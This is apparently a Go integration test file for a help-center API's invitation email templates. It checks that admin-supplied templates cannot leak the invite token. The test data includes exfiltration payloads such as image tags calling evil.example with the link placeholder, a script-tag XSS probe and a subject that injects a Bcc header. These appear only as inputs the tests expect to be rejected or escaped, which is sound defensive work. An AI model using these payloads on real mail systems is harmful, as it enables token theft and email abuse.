package api_test

import (
	"context"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/portalaccess/portal/workflows"
)

func template(subject, heading string, paragraphs []string, button string) map[string]any {
	return map[string]any{"subject": subject, "heading": heading, "paragraphs": paragraphs, "button_label": button}
}

// attributes finds every attribute of the HTML that can point a reader
// (or a mail client's image loader) somewhere.
var attributes = regexp.MustCompile(`(?i)\b(href|src|srcset|action|background|style)\s*=\s*"([^"]*)"`)

// TestTemplateCannotSendTheLinkElsewhere saves the exfiltration attempt
// of the old template code in the new form: the link is not a
// placeholder, so {{link}} is refused by name, and markup the admin types
// arrives as text; the token sits only in the layout's own button.
func TestTemplateCannotSendTheLinkElsewhere(t *testing.T) {
	slug := newHelpCenter(t, "unique")
	for _, attempt := range []string{`<img src="https://evil.example/?t={{link}}">`, `<img src="https://evil.example/?t={{.Link}}">`, `{{ Link }}`} {
		r := call(t, "PATCH", "/api/v1/help-centers/"+slug, app.AdminKey,
			map[string]any{"email_template": template("Join", "Hi", []string{attempt}, "Accept")})
		if r.Status != 422 || r.errorCode(t) != "unknown_placeholder" || r.json(t)["error"].(map[string]any)["field"] != "email_template.paragraphs[0]" {
			t.Fatalf("%s: %d %s", attempt, r.Status, r.Body)
		}
	}
	evil := `<img src="https://evil.example/?t={{email}}"><a href="https://evil.example/">{{name}}</a>`
	admin(t, "PATCH", "/api/v1/help-centers/"+slug, map[string]any{"email_template": template(
		"Join {{help_center}}", `<script>alert(1)</script> {{name}}`, []string{evil, "Until {{expires_at}}."}, `Go"><img src=x>`)}, 200)

	email := unique("eve") + "@example.com"
	contact := newContact(t, email, true)
	admin(t, "POST", "/api/v1/help-centers/"+slug+"/invitations", map[string]any{"contact_id": contact}, 202)
	m := waitForMail(t, email, "invite", 1)[0]
	link, token := linkIn(t, m)

	for _, tag := range []string{"<img", "<script", `<a href="https://evil`} {
		if strings.Contains(strings.ToLower(m.HTML), tag) {
			t.Fatalf("admin markup %q is live in the HTML part: %s", tag, m.HTML)
		}
	}
	if !strings.Contains(m.HTML, "&lt;img src=&#34;https://evil.example/?t="+email+"&#34;&gt;") {
		t.Fatalf("admin text not shown escaped: %s", m.HTML)
	}
	htmlLink := strings.ReplaceAll(link, "&", "&amp;")
	for _, a := range attributes.FindAllStringSubmatch(m.HTML, -1) {
		name, value := strings.ToLower(a[1]), a[2]
		switch {
		case name == "style":
			if strings.Contains(value, "url(") || strings.Contains(value, "evil") {
				t.Fatalf("style %q", value)
			}
		case name == "href" && (value == htmlLink || strings.Contains(value, "/invitations/decline?")):
		default:
			t.Fatalf("attribute %s=%q is not the layout's", name, value)
		}
	}
	if n := strings.Count(m.HTML, token); n != 2 {
		t.Fatalf("token appears %d times in the HTML part, want the button and the copyable address", n)
	}
	if !strings.HasSuffix(strings.TrimSpace(strings.Split(m.Text, "I don't want to join")[0]), link) {
		t.Fatalf("text part does not end with the link under the button label: %q", m.Text)
	}
}

// TestTemplateCannotLoop: template code is refused, and the most a
// template can expand to is bounded by its caps (no range over a huge
// number, nothing expanded twice).
func TestTemplateCannotLoop(t *testing.T) {
	slug := newHelpCenter(t, "unique")
	for _, attempt := range []string{`{{range $i := .Big}}x{{end}}`, `{{range}}`, `{{template "x"}}`} {
		r := call(t, "POST", "/api/v1/help-centers/"+slug+"/email-templates/preview", app.AdminKey,
			map[string]any{"email_template": template("s", "h", []string{attempt}, "b")})
		if r.Status != 422 || r.errorCode(t) != "unknown_placeholder" {
			t.Fatalf("%s: %d %s", attempt, r.Status, r.Body)
		}
	}
	tooMany := make([]string, 11)
	for i := range tooMany {
		tooMany[i] = "p"
	}
	for name, body := range map[string]map[string]any{
		"11 paragraphs":       template("s", "h", tooMany, "b"),
		"a paragraph of 2001": template("s", "h", []string{strings.Repeat("x", 2001)}, "b"),
		"a subject of 201":    template(strings.Repeat("x", 201), "h", []string{"p"}, "b"),
		"a two-line subject":  template("s\nBcc: x@example.com", "h", []string{"p"}, "b"),
	} {
		r := call(t, "POST", "/api/v1/help-centers/"+slug+"/email-templates/preview", app.AdminKey, map[string]any{"email_template": body})
		if r.Status != 422 || r.errorCode(t) != "invalid_field" {
			t.Fatalf("%s: %d %s", name, r.Status, r.Body)
		}
	}
	// The largest template there is, every part full of placeholders.
	full := make([]string, 10)
	for i := range full {
		full[i] = strings.Repeat("{{help_center}}", 2000/len("{{help_center}}"))
	}
	r := call(t, "POST", "/api/v1/help-centers/"+slug+"/email-templates/preview", app.AdminKey,
		map[string]any{"email_template": template("s", "h", full, "b")})
	if r.Status != 200 {
		t.Fatalf("full template: %d %s", r.Status, r.Body)
	}
	// The help center's name is "Help hc-NNN": about 16 characters for
	// each placeholder of 15, so the email stays of the template's size.
	if len(r.Body) > 1<<20 {
		t.Fatalf("preview of %d bytes", len(r.Body))
	}
}

// TestTemplateThatFailsAtSendTimeFallsBackAndTheInvitationCompletes
// stores a template the API would refuse (as one saved before the rules
// were) and invites: the default template goes out, the audit trail says
// why, and the customer accepts.
func TestTemplateThatFailsAtSendTimeFallsBackAndTheInvitationCompletes(t *testing.T) {
	slug := newHelpCenter(t, "unique")
	if _, err := app.Service.Store.DB.NewRaw(`UPDATE help_centers SET email_template = ?::jsonb WHERE slug = ?`,
		`{"subject": "Join", "heading": "Hi", "paragraphs": ["<img src=\"https://evil.example/?t={{.Link}}\">"], "button_label": "Go"}`, slug).
		Exec(context.Background()); err != nil {
		t.Fatal(err)
	}
	email := unique("ada") + "@example.com"
	contact := newContact(t, email, true)
	inv := admin(t, "POST", "/api/v1/help-centers/"+slug+"/invitations", map[string]any{"contact_id": contact}, 202)
	m := waitForMail(t, email, "invite", 1)[0]
	if !strings.HasPrefix(m.Subject, "You're invited to the Help "+slug) || strings.Contains(m.HTML, "evil") {
		t.Fatalf("not the default template: %q %s", m.Subject, m.HTML)
	}
	events := admin(t, "GET", "/api/v1/audit-events?action=email_template.fell_back&help_center="+slug, nil, 200)["items"].([]any)
	if len(events) != 1 {
		t.Fatalf("%d fell_back events, want 1: %v", len(events), events)
	}
	ev := events[0].(map[string]any)
	details := ev["details"].(map[string]any)
	if ev["actor"] != "system" || details["invitation_id"] != inv["id"] || !strings.Contains(details["reason"].(string), "paragraphs[0]") ||
		!strings.Contains(details["reason"].(string), "{{.Link}}") {
		t.Fatalf("event %v", ev)
	}

	link, token := linkIn(t, m)
	b := newBrowser(t)
	page := b.get(link)
	form := url.Values{"token": {token}, "password": {"correct-horse-1"}, "password_confirm": {"correct-horse-1"}}
	if r := b.post("/portal/"+slug+"/invitations/accept", page, form); r.Status != 303 {
		t.Fatalf("accept: %d %s", r.Status, r.Body)
	}
	waitCompleted(t, app.Service.Temporal, workflows.InvitationWorkflowID(slug, contact))
	if got := admin(t, "GET", "/api/v1/invitations/"+inv["id"].(string), nil, 200); got["status"] != "accepted" {
		t.Fatalf("invitation %v", got)
	}
}

// TestPreviewAnswersTheRenderedParts renders the default, a saved
// template and a draft, with sample data and links without a token, for
// an agent too, and sends nothing.
func TestPreviewAnswersTheRenderedParts(t *testing.T) {
	slug := newHelpCenter(t, "unique")
	agent, _ := newKey(t, map[string]any{"role": "agent"})
	preview := func(key string, body map[string]any) map[string]any {
		t.Helper()
		r := call(t, "POST", "/api/v1/help-centers/"+slug+"/email-templates/preview", key, body)
		if r.Status != 200 {
			t.Fatalf("preview: %d %s", r.Status, r.Body)
		}
		return r.json(t)
	}
	got := preview(agent, map[string]any{})
	if got["subject"] != "You're invited to the Help "+slug+" help center" || !strings.Contains(got["text"].(string), "Hello Ada Lovelace,") ||
		!strings.Contains(got["html"].(string), "Accept invitation</a>") ||
		!strings.Contains(got["text"].(string), app.URL+"/portal/"+slug+"/invitations/accept?token=sample") {
		t.Fatalf("default preview %v", got)
	}
	if r := preview(agent, map[string]any{"reminder": true}); !strings.HasPrefix(r["subject"].(string), "Reminder: ") {
		t.Fatalf("reminder preview %v", r)
	}

	admin(t, "PATCH", "/api/v1/help-centers/"+slug, map[string]any{"email_template": template(
		"Saved {{help_center}}", "Dear {{name}}", []string{"Valid until {{expires_at}}.", "Sent to {{email}}."}, "Set a password")}, 200)
	got = preview(app.AdminKey, map[string]any{})
	text := got["text"].(string)
	if got["subject"] != "Saved Help "+slug || !strings.HasPrefix(text, "Dear Ada Lovelace\n\nValid until ") ||
		!strings.Contains(text, "Sent to ada@example.com.\n\nSet a password:\n"+app.URL) || strings.Contains(text, "{{") {
		t.Fatalf("saved preview %v", got)
	}
	if !regexp.MustCompile(`Valid until \d+ \w+ \d{4} \d\d:\d\d UTC\.`).MatchString(text) {
		t.Fatalf("no sample expiry in %q", text)
	}
	got = preview(app.AdminKey, map[string]any{"email_template": template("Draft & <b>", "H", []string{"P"}, "B")})
	if got["subject"] != "Draft & <b>" || !strings.Contains(got["html"].(string), "<h1 style=\"font-size:20px\">H</h1>") {
		t.Fatalf("draft preview %v", got)
	}
	// The draft changed nothing.
	if hc := admin(t, "GET", "/api/v1/help-centers/"+slug, nil, 200); hc["email_template"].(map[string]any)["subject"] != "Saved {{help_center}}" {
		t.Fatalf("help center after preview %v", hc["email_template"])
	}
	// A scoped key sees only its help centers.
	other, _ := newKey(t, map[string]any{"role": "agent", "help_centers": []string{newHelpCenter(t, "unique")}})
	if r := call(t, "POST", "/api/v1/help-centers/"+slug+"/email-templates/preview", other, map[string]any{}); r.Status != 404 {
		t.Fatalf("scoped key: %d", r.Status)
	}
}

// TestSendTestReachesTheOutboxOfTheKeysOwnerAndIsRateLimited sends a
// draft to the address recorded on the calling key, through the mail
// path, and refuses the send after TEMPLATE_TEST_RATE (5 an hour).
func TestSendTestReachesTheOutboxOfTheKeysOwnerAndIsRateLimited(t *testing.T) {
	slug := newHelpCenter(t, "unique")
	owner := unique("lead") + "@helpdesk.example"
	key, _ := newKey(t, map[string]any{"role": "admin", "email": owner})
	path := "/api/v1/help-centers/" + slug + "/email-templates/send-test"

	if r := call(t, "POST", path, app.AdminKey, map[string]any{}); r.Status != 422 || r.errorCode(t) != "api_key_without_email" {
		t.Fatalf("key without email: %d %s", r.Status, r.Body)
	}
	agent, _ := newKey(t, map[string]any{"role": "agent", "email": unique("agent") + "@helpdesk.example"})
	if r := call(t, "POST", path, agent, map[string]any{}); r.Status != 403 {
		t.Fatalf("agent: %d %s", r.Status, r.Body)
	}
	if r := call(t, "POST", path, key, map[string]any{"email_template": template("s", "h", []string{"{{link}}"}, "b")}); r.Status != 422 || r.errorCode(t) != "unknown_placeholder" {
		t.Fatalf("bad draft: %d %s", r.Status, r.Body)
	}

	r := call(t, "POST", path, key, map[string]any{"email_template": template("Draft for {{help_center}}", "Hi {{name}}", []string{"P"}, "Join")})
	if r.Status != 202 {
		t.Fatalf("send-test: %d %s", r.Status, r.Body)
	}
	sent := r.json(t)
	if sent["to"] != owner {
		t.Fatalf("sent to %v", sent)
	}
	m := waitForMail(t, owner, "template_test", 1)[0]
	if m.Subject != "[Test] Draft for Help "+slug || !strings.Contains(m.Text, "Hi Ada Lovelace") || m.From == "" || !strings.Contains(m.From, "Help "+slug) {
		t.Fatalf("test email %+v", m)
	}
	// The workflow carries the test's ID, never the address.
	wfID := workflows.TemplateTestWorkflowID(sent["id"].(string))
	waitCompleted(t, app.Service.Temporal, wfID)
	if h := historyJSON(t, app.Service.Temporal, wfID); strings.Contains(h, owner) {
		t.Fatal("the workflow history holds the address")
	}

	for i := 2; i <= 5; i++ {
		if r := call(t, "POST", path, key, map[string]any{}); r.Status != 202 {
			t.Fatalf("send %d: %d %s", i, r.Status, r.Body)
		}
	}
	r = call(t, "POST", path, key, map[string]any{})
	if r.Status != 429 || r.errorCode(t) != "too_many_test_sends" {
		t.Fatalf("sixth send: %d %s", r.Status, r.Body)
	}
	if secs, err := strconv.Atoi(r.Header.Get("Retry-After")); err != nil || secs < 1 || secs > 3600 {
		t.Fatalf("Retry-After %q", r.Header.Get("Retry-After"))
	}
	waitForMail(t, owner, "template_test", 5)
	// Another key has its own allowance.
	other := unique("lead") + "@helpdesk.example"
	otherKey, _ := newKey(t, map[string]any{"role": "admin", "email": other})
	if r := call(t, "POST", path, otherKey, map[string]any{}); r.Status != 202 {
		t.Fatalf("another key: %d %s", r.Status, r.Body)
	}
}
